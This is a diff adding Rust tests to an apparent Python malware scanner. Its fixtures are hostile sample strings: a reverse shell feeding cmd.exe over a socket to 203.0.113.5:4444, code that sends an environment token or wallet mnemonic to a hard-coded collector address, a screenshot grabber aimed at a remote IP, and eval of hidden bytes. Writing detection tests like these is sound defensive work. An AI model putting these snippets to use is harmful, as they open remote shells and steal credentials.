@@ -180,6 +180,11 @@ fn a_reverse_shell_is_a_socket_handed_to_a_shell_not_a_socket_beside_a_process()
         // In one function.
         "import socket, os, subprocess\ndef shell(host):\n    s = socket.socket()\n    s.connect((host, 4444))\n    \
          for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n    subprocess.call(['/bin/sh', '-i'])\n",
+        // Connected with `create_connection`, a shell's pipes pumped to and
+        // from the socket.
+        "import socket, subprocess\ndef main():\n    s = socket.create_connection(('203.0.113.5', 4444))\n    \
+         r = s.makefile('rb')\n    p = subprocess.Popen(['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n    \
+         while True:\n        p.stdin.write(r.read(1))\n",
     ];
     for src in shells {
         let report = scan(&ManifestFacts::default(), &[Entry { path: "evil.py", bytes: src.as_bytes() }]);
@@ -639,10 +644,39 @@ fn data_flows_across_the_files_of_a_package_are_followed() {
         Entry { path: "pkg/go.py", bytes: start.as_bytes() },
     ];
     assert_eq!(f(&entries, "process-decoded").map(|x| x.severity), Some(Severity::Critical));
+    // The same on a caller's request: a tool's work (a registry's token
+    // handed to its command-line client), high.
+    let asked = "import os, pkg.net\ndef login():\n    os.system(pkg.net.command())\n";
+    let entries = [
+        Entry { path: "pkg/net/__init__.py", bytes: net.as_bytes() },
+        Entry { path: "pkg/go.py", bytes: asked.as_bytes() },
+    ];
+    assert_eq!(f(&entries, "process-decoded").map(|x| x.severity), Some(Severity::High));
     // A function of the same name in an unrelated module does not count.
     let entries =
         [Entry { path: "pkg/other.py", bytes: grab.as_bytes() }, Entry { path: "pkg/main.py", bytes: send.as_bytes() }];
     assert!(f(&entries, "exfiltration").is_none());
+    // One token read by a config module, sent by the client on request to
+    // the address its caller configured: how an SDK authenticates (medium,
+    // as within one file); to an address written in the code, high; while
+    // the module loads, critical; a wallet's phrase stays high.
+    let misc = "import os\ndef platform_token():\n    return os.environ.get('PLATFORM_TOKEN')\n";
+    let client = "import requests\nfrom .misc import platform_token\n\
+                  def actions(base):\n    return requests.get(base + '/actions', headers={'Authorization': platform_token()})\n";
+    let pair = |client: &str, misc: &str| {
+        let entries = [
+            Entry { path: "sdk/misc.py", bytes: misc.as_bytes() },
+            Entry { path: "sdk/client.py", bytes: client.as_bytes() },
+        ];
+        f(&entries, "exfiltration").map(|x| x.severity)
+    };
+    assert_eq!(pair(client, misc), Some(Severity::Medium));
+    let literal = client.replace("base + '/actions'", "'https://collector.example.invalid/actions'");
+    assert_eq!(pair(&literal, misc), Some(Severity::High));
+    assert_eq!(pair(&format!("{literal}actions(None)\n"), misc), Some(Severity::Critical));
+    let wallet =
+        misc.replace("return os.environ", "mnemonic = os.environ").replace("')\n", "')\n    return mnemonic\n");
+    assert_eq!(pair(client, &wallet), Some(Severity::High));
 }
 
 /// Code generated from a template written in the file (a proxy method per
@@ -969,6 +1003,16 @@ fn the_screen_clipboard_or_keys_sent_to_an_address_in_the_code_is_spyware() {
     assert!(verdict(tool).is_none());
     let hotkeys = "import keyboard\nkeyboard.on_press(lambda e: print(e.name))\n";
     assert!(verdict(hotkeys).is_none());
+    // A browser driver's screenshot beside requests to the browser's own
+    // debugging port on this machine.
+    let driver = "import urllib.request, mss\ndef shot():\n    return mss.mss().grab(None)\n\
+                  def pages(port):\n    return urllib.request.urlopen(urllib.request.Request(f'http://127.0.0.1:{port}/json'))\n";
+    assert!(verdict(driver).is_none(), "{driver}");
+    let away = driver.replace("http://127.0.0.1:{port}/json", "http://198.51.100.4:{port}/json");
+    assert_eq!(verdict(&away).map(|v| v.0), Some(Severity::High), "{away}");
+    // A URL template whose host is filled in from elsewhere names no address.
+    let template = driver.replace("f'http://127.0.0.1:{port}/json'", "'http://%s:%d/json' % (HOST, port)");
+    assert!(verdict(&template).is_none(), "{template}");
 }
 
 /// Hidden code is hidden however it was hidden: decrypted (Fernet, AES) as
@@ -1953,5 +1997,29 @@ fn an_escaping_table_hides_nothing_a_cipher_does() {
         assert!(!hidden(&escaped), "{escaped}");
         let cipher = escaped.replace("{' ': '\\\\ '}", "'abcdefghijklm', 'nopqrstuvwxyz'");
         assert!(hidden(&cipher), "{cipher}");
+    }
+}
+
+/// A compiled regular expression matches other text: what built the
+/// pattern (constants from bytes reversed for endianness) is not in what
+/// it matches. The matched text evaluated is the caller's input (medium);
+/// the reversed bytes evaluated themselves stay hidden code. Both
+/// front-ends. Written for the test.
+#[test]
+fn a_pattern_built_from_decoded_constants_does_not_decode_what_it_matches() {
+    let level = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "lenient/loader.py", bytes: src.as_bytes() }]);
+        report.findings.iter().filter(|f| f.rule.starts_with("exec")).map(|f| f.severity).max()
+    };
+    for py2 in ["", "print 'loading'\n"] {
+        let src = format!(
+            "import re, struct\n{py2}RAW = bytes.fromhex('7FF80000000000007FF0000000000000')[::-1]\n\
+             NAN, INF = struct.unpack('dd', RAW)\nCONSTANTS = {{'NaN': NAN, 'Infinity': INF}}\n\
+             CONSTANT_RE = re.compile('(%s)' % '|'.join(CONSTANTS))\n\
+             def scan(text, pos):\n    m = CONSTANT_RE.match(text, pos)\n    return eval(m.string[m.pos:m.end()])\n"
+        );
+        assert_eq!(level(&src), Some(Severity::Medium), "{src}");
+        let hidden = src.replace("eval(m.string[m.pos:m.end()])", "eval(RAW)");
+        assert!(level(&hidden) >= Some(Severity::High), "{hidden}");
     }
 }
